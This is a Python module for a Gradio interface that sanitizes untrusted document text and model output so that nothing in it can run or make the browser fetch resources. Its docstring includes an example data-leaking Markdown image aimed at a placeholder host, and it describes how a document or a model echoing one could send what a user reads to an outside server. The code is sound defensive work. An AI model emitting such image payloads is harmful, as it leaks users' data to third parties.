"""Untrusted text (document passages, model output, file names, questions, error messages) made
safe to show: nothing in it can run, and nothing can make the browser fetch a resource.

Gradio renders Markdown with raw HTML allowed (sanitized against scripts, but `<img>`, styles and
`![chart](http://host/x.png?leak=...)` images load) and error toasts as HTML. A document, or a
model that repeats one, could so send what a person reads to any server, without a click. So:

- `markdown(text)` keeps the model's formatting (emphasis, lists, tables, code) but breaks every
  construct that loads or links something: raw HTML, images, links and link definitions, autolinks
  in angle brackets, diagrams. It inserts an invisible zero-width space where the construct would
  start (after `<`, between `]` and `(`, `[` or `:`, before a `mermaid` fence's name), so the text
  reads the same, code spans included; web addresses stay visible, and Markdown itself turns the
  bare http(s) ones into ordinary links (never `javascript:`).
- `plain(text)` shows text exactly as written: every Markdown character is escaped, so a contract's
  `# 1. Scope` is not a heading and a passage is shown as it stands in the document.
- `code_block(text)` shows text as code that cannot end early.
- `html(text)` escapes text for the places Gradio renders as HTML (error toasts).

The Markdown components also turn LaTeX off (`latex_delimiters=[]`, see `MARKDOWN_OPTIONS`).
"""

from __future__ import annotations

import html as html_module
import re

ZERO_WIDTH_SPACE = "\u200b"
# `<` starts raw HTML and autolinks; `](`, `][` and `]:` make links, images and link definitions.
_LIVE = re.compile(r"<|\](?=[(\[:])")
# A fenced code block named `mermaid` is drawn as a diagram (which can hold links and HTML labels).
_DIAGRAM_FENCE = re.compile(r"^([ \t>*+\-\d.)]*(?:`{3,}|~{3,})[ \t]*)(mermaid)", re.IGNORECASE | re.MULTILINE)
# What Markdown reads as markup anywhere in a line (emphasis, code, links, HTML, entities, tables,
# strikethrough), and what it reads as markup at a line's start (headings, lists, quotes, rules).
_MARKUP_ANYWHERE = re.compile(r"[\\`*_\[\]<>&~|]")
_MARKUP_AT_LINE_START = re.compile(r"^([ \t]*)(\d+(?=[.)])|[#+\-=])", re.MULTILINE)
_LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
# Every line break that `str.splitlines` knows. The browser's Markdown reads a lone \r as a line
# break too, while `^` above matches only after \n: a fence after a \r would escape the guards.
_LINE_BREAK = re.compile("\r\n|[\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")

# Keyword arguments for every gr.Markdown and gr.Chatbot that shows untrusted text: no LaTeX (KaTeX
# has commands that load or link resources when trusted, and none of our text needs maths).
MARKDOWN_OPTIONS = {"latex_delimiters": []}


def markdown(text: str) -> str:
    """Model output as Markdown that keeps its formatting but can neither load nor run anything.
    Line breaks of every kind become \n first, so each guard sees the lines the browser sees."""
    text = _LIVE.sub(lambda match: match.group(0) + ZERO_WIDTH_SPACE, _LINE_BREAK.sub("\n", text))
    return _DIAGRAM_FENCE.sub(lambda match: match.group(1) + ZERO_WIDTH_SPACE + match.group(2), text)


def plain(text: str) -> str:
    """`text` exactly as written, in Markdown: every character that Markdown would read as markup
    escaped (so few backslashes that the source stays readable), indentation kept as non-breaking
    spaces (four spaces would start a code block), line breaks kept."""
    escaped = _MARKUP_ANYWHERE.sub(lambda match: "\\" + match.group(0), _LINE_BREAK.sub("\n", text))
    escaped = _MARKUP_AT_LINE_START.sub(_escape_line_start, escaped)
    escaped = _LEADING_SPACE.sub(lambda match: "\u00a0" * len(match.group(0).expandtabs(4)), escaped)
    return "  \n".join(escaped.splitlines())


def _escape_line_start(match: re.Match) -> str:
    """`1.` -> `1\\.` (no ordered list); `#`, `+`, `-`, `=` -> escaped (no heading, list or rule)."""
    indent, mark = match.group(1), match.group(2)
    return f"{indent}{mark}\\" if mark[0].isdigit() else f"{indent}\\{mark}"


def code_block(text: str, language: str = "") -> str:
    """`text` as a fenced code block that nothing in it can close: the fence is longer than any
    run of backticks in the text (JSON cut off mid-string can hold raw line breaks and fences)."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def html(text: str) -> str:
    """`text` for a place that renders HTML (Gradio's error toasts): shown as written."""
    return html_module.escape(text, quote=False)
